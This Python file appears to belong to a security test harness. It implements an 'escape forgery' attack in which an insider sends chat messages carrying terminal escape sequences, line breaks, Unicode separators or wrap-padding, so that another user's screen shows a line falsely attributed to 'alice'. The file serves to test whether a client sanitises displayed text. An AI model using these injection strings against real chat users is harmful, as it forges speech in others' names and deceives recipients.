"""Writing a line in somebody else's name on somebody else's screen.

python -m attacks.escape_forgery --stage 1 --levers display=raw
"""

import asyncio
import secrets
from typing import Final

from attacks import Claim, Foothold, Goal, attack

COLUMNS: Final = 80
"""How wide Carol believes Bob's terminal to be; most are."""


@attack(
    position="insider",
    goals=(
        Goal(
            "room",
            'Bob\'s screen shows a line of "Alice" that Carol wrote',
            wins="forged-room",
            expected="HHHHH",
            ablation="display=raw",
        ),
    ),
)
async def escape_forgery(foothold: Foothold, goal: Goal) -> Claim:
    """Carol speaks under her own name, and no message is forged. But what she says ends on a terminal, and terminals
    obey: a line break, a sequence that wipes the row, or just a text so long that it goes on at the beginning of the
    next row. Behind each of them she writes "alice: ", and hopes that Bob's client shows what it was sent.
    """
    inside = asyncio.Event()
    client = await foothold.enter("carol", lambda show: inside.set())
    await inside.wait()
    await foothold.until("talking")
    line = f"alice: I owe Carol {secrets.randbelow(900) + 100} euros."
    wrapped = "x" * (COLUMNS - len("carol: ")) + line
    tricks = [f"\r\n{line}", f"\x1b[2K\r{line}", f"\x1b[1E{line}", f"\x85{line}", f"\u2028{line}", wrapped]
    for words in tricks:
        client.perform(client.session.say(words))
    client.close()
    await client.ended.wait()
    return Claim(did=f"wrote, behind {len(tricks)} ways of beginning a row, {line}")


if __name__ == "__main__":
    from lab.attack_main import main

    main("escape_forgery")
